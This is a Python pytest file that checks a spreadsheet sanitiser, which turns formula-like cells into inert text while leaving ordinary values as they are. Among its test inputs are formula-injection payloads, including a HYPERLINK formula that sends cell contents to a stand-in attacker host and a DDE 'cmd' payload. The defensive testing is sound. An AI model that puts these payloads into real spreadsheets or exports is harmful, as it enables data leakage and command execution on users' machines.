"""What a spreadsheet would run becomes text; all else stays as it is."""

import pytest

from nightshift.spreadsheets import inert


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/"&A1)',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1;2)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1",
        "-",
        "--1",
        "+١",
    ],
)
def test_formulas_become_text(cell):
    assert inert(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "a=b", "1", "-1", "+1.5", "-.5e-3", "1e9", " =1", "'=1", "ü"])
def test_all_else_stays(cell):
    assert inert(cell) == cell
